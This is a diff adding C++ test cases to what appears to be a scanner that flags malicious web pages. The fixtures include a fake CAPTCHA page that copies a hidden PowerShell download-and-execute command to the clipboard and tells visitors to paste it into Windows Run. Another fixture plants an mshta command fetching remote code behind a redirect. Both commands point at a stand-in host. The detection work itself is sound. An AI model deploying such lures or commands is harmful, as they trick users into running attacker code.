@@ -64,6 +64,22 @@ INSTANTIATE_TEST_SUITE_P(
               "}</script>"}},
             VisitVerdict::malicious,
             {"paste and run (T1204.004)"}},
+        Row{"steps_that_appear_after_the_click",
+            {{"/",
+              "<h1>Verify you are human</h1><div id=b class=checkbox onclick=\"navigator.clipboard.writeText("
+              "document.getElementById('c').textContent); setTimeout(function () { s.style.display = '';"
+              "s.innerHTML = 'Press Windows + R, then Ctrl + V and Enter' }, 500)\">I'm not a robot</div>"
+              "<div id=s></div><p id=c>powershell -w hidden -c iex (irm http://range.example/a)</p>"}},
+            VisitVerdict::malicious,
+            {"paste and run (T1204.004)"}},
+        Row{"twin_a_question_whether_somebody_is_there",
+            {{"/",
+              "<h1>Verify you are human</h1><div id=b onclick=\"navigator.clipboard.writeText('thank you');"
+              "s.innerHTML = 'Thank you'\">I'm not a robot</div><div id=s></div>"
+              "<a href=/verify>Verify by mail</a>"},
+             {"/verify", "<p>x</p>"}},
+            VisitVerdict::benign,
+            {}},
         Row{"copied_without_a_click_and_never_shown",
             {{"/",
               "<body><p>Welcome</p><script>var t = document.createElement('textarea');"
@@ -133,6 +149,11 @@ INSTANTIATE_TEST_SUITE_P(
             {}},
         Row{"twin_archive_of_pictures_by_blob",
             {{"/", "<body><script>" + zip_with("cat.png") + "var name = 'cats.zip';" + save + "</script>"}},
+            VisitVerdict::benign,
+            {}},
+        Row{"twin_archive_of_a_site_by_blob",
+            {{"/", "<body><script>" + zip_with("jquery.scrollTo.min.css") + "var name = 'site.zip';" + save +
+                       "</script>"}},
             VisitVerdict::benign,
             {}},
         Row{"twin_table_by_data_url",
@@ -251,6 +272,28 @@ INSTANTIATE_TEST_SUITE_P(
             VisitVerdict::benign,
             {}}),
     [](const auto& row) { return row.param.name; });
+
+// Before a page that lures to a command, as before a file.
+TEST(Lures, TrafficDistributionIsAskedTwiceWhateverItLedTo) {
+  Sites sites(Sites::Pages{{"/",
+                            "<p>x</p><script>navigator.clipboard.writeText('mshta "
+                            "http://range.example/x.hta')</script>"}});
+  int asked = 0;
+  net::TestServer gate(
+      [&](net::TestConnection& client) {
+        if (client.receive_request().empty()) return;
+        client.send(++asked > 1 ? "HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nx"
+                                : "HTTP/1.1 302 Found\r\nContent-Length: 0\r\nLocation: " + sites.url() +
+                                      "\r\n\r\n");
+      },
+      "127.0.0.3");
+  const std::vector<std::string> lures = events_of(
+      visit_or_fail(local_visit("http://127.0.0.3:" + std::to_string(gate.port()) + "/")), "lure");
+  EXPECT_EQ(asked, 2);
+  EXPECT_TRUE(std::ranges::any_of(lures, [](const std::string& lure) {
+    return lure.starts_with("traffic distribution");
+  })) << ::testing::PrintToString(lures);
+}
 
 // Once to the file, and then nowhere; the twin redirects alike each time.
 TEST(Lures, TrafficDistributionIsAskedTwice) {
